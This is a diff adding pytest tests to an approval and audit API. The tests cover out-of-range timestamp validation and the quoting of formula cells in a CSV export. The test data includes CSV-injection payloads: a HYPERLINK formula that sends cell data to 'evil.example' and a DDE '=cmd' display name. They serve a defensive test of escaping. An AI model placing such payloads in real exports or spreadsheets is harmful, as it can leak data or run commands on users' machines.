@@ -6,6 +6,8 @@ environment lists, by Entra object id."""
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import json
 
 import pytest
@@ -178,6 +180,57 @@ async def test_the_api_refuses_without_the_token_and_never_answers_500(teams):
     assert (await api(teams, "GET", "/api/approvals/abc"))[0] == 400
     assert (await api(teams, "GET", "/api/audit?format=xml"))[0] == 400
     assert (await api(teams, "GET", "/api/audit?since=yesterday"))[0] == 400
+
+
+@pytest.mark.parametrize("query,value", [
+    ("since=0001-01-01T00:00:00%2B14:00", "0001-01-01T00:00:00+14:00"),      # year 0 in UTC
+    ("since=9999-12-31T23:59:59-14:00", "9999-12-31T23:59:59-14:00"),        # year 10000 in UTC
+    ("format=csv&since=0001-01-01T00:00:00%2B00:01", "0001-01-01T00:00:00+00:01"),
+])
+async def test_an_audit_time_with_no_utc_form_gets_400_naming_since(teams, query, value):
+    assert await api(teams, "GET", f"/api/audit?{query}") == (
+        400, {"error": f"since: '{value}' is outside the years 1 to 9999 in UTC", "field": "since"})
+
+
+async def test_the_first_and_last_utc_moments_are_valid_since_values(teams):
+    status, text = await api(teams, "GET", "/api/audit?since=0001-01-01T00:00:00Z")
+    assert status == 200 and json.loads(text.splitlines()[0])["event"] == "policy_loaded"
+    assert await api(teams, "GET", "/api/audit?since=9999-12-31T23:59:59.999999%2B00:00") == (200, "")
+    assert (await api(teams, "GET", "/api/audit?since=0001-01-01T14:00:00%2B14:00"))[0] == 200
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"GitHub Actions")', "+1+1", "-2+3", "@SUM(1,2)",
+            "\t=1+1", "\r=1+1"]
+
+
+async def test_the_csv_export_quotes_cells_a_spreadsheet_would_run_and_nothing_else_changes(teams):
+    await teams.say("hello", mention=True, conversation=CHANNEL, kind="channel")
+    for requester in FORMULAS:
+        status, _ = await api(teams, "POST", "/api/approvals", body=gate_body(
+            requester=requester, execute=False, action="deploy", target="-svc", reason="=1+1"))
+        assert status == 201
+    await wait_until(lambda: sum("Approval request #" in card_words(s) for s in teams.connector.sent
+                                 if s.card and s.method == "POST") >= len(FORMULAS))     # out: the next reply is ours
+    mallory = Person(ALICE.id, "=cmd|' /C calc'!A0", ALICE.aad_object_id)       # an Operator's display name
+    [subscribed] = await teams.say("subscribe drift --model fraud-model", user=mallory)
+    assert subscribed.text.startswith("Subscribed this chat")
+
+    status, table = await api(teams, "GET", "/api/audit?format=csv")
+    assert status == 200
+    rows = [row for row in csv.DictReader(io.StringIO(table, newline="")) if row["event"] in ("requested",
+                                                                                              "subscribed")]
+    assert [(row["actor_name"], row["actor_id"], row["target"]) for row in rows] == [
+        *[("'" + name, f"pipeline:{name}", "'-svc") for name in FORMULAS],
+        ("'=cmd|' /C calc'!A0", ALICE.aad_object_id, "#1 drift (model fraud-model)")]
+    assert rows[0]["detail"].startswith("{") and rows[0]["at"][:2] == "20"      # JSON and times as they were
+
+    # the JSON lines (and the stored chain, whose hashes cover every value) keep the values verbatim
+    status, lines = await api(teams, "GET", "/api/audit?format=jsonl")
+    records = [json.loads(line) for line in lines.splitlines()]
+    assert [(r["actor_name"], r["target"]) for r in records if r["event"] == "requested"] == [
+        (name, "-svc") for name in FORMULAS]
+    [verified] = await teams.say("audit verify")
+    assert "is intact" in card_words(verified)
 
 
 ADA = Person("29:1ada", "Ada Admin", "00000000-0000-0000-0000-0000000000ad")
